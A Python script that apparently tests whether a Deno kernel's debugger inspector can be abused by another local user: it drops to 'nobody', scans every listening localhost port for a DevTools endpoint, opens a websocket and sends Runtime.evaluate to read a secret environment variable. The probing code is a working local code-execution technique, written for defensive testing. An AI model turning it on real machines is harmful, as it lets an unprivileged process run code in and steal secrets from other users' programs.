"""Tries to have a kernel's inspector run code, as another program on the machine may: spy.py MARK.

Root becomes another user for it. Asks every port of 127.0.0.1 what it debugs, joins, and evaluates
what gives the mark that a kernel has in its environment. Says "served" as soon as one has given it; and
once its standard input ends, how many ports it asked, how many told an address, and how many gave the mark.
"""

import base64
import encodings.idna  # noqa: F401 – what connects loads it, when Python's files may be out of reach
import json
import os
import re
import select
import socket
import sys
import threading
import time

OTHER = 65_534  # nobody
PAUSE_S = 0.2  # until a port is asked again: a busy inspector answers late
UPGRADE = "GET {} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" \
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {}\r\n\r\n"
EVALUATE = json.dumps(
    {"id": 1, "method": "Runtime.evaluate", "params": {"expression": "Deno.env.get('TESSERA_SPY')"}}
)


def listening():
    with open("/proc/net/tcp") as file:
        rows = [line.split() for line in file.readlines()[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}


def ask(port, request, enough, seconds):
    """What a port answers, until `enough` is in it."""
    answer = b""
    with socket.create_connection(("127.0.0.1", port), timeout=seconds) as joined:
        for part in request:
            joined.sendall(part)
        end = time.monotonic() + seconds
        while enough not in answer and time.monotonic() < end:
            piece = joined.recv(65536)
            if not piece:
                break
            answer += piece
    return answer


def frame(text):
    """A client's frame, masked with zeros."""
    data = text.encode()
    assert len(data) < 126
    return bytes([0x81, 0x80 | len(data), 0, 0, 0, 0]) + data


def spy(port, mark, told, served, over):
    """Asks a port again and again, until it gives the mark."""
    while not over.is_set():
        try:
            answer = ask(port, [b"GET /json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"], b"]", 1)
            if found := re.search(rb'"webSocketDebuggerUrl": *"ws://[^/]+(/[^"]+)"', answer):
                told.add(port)
                key = base64.b64encode(os.urandom(16)).decode()
                requests = [UPGRADE.format(found[1].decode(), key).encode(), frame(EVALUATE)]
                if mark in ask(port, requests, mark, 5):
                    served.add(port)
                    print("served", flush=True)
                    return
        except OSError:
            pass
        over.wait(PAUSE_S)


def main(mark):
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(OTHER)
        os.setuid(OTHER)
    asked, told, served, over, threads = set(), set(), set(), threading.Event(), []
    while not select.select([sys.stdin], [], [], 0.002)[0]:
        ports = listening()
        for port in ports - asked:
            threads.append(threading.Thread(target=spy, args=(port, mark.encode(), told, served, over)))
            threads[-1].start()
        asked |= ports
    over.set()
    for thread in threads:
        thread.join()
    print(json.dumps({"asked": len(asked), "told": len(told), "served": len(served)}))


if __name__ == "__main__":
    main(sys.argv[1])
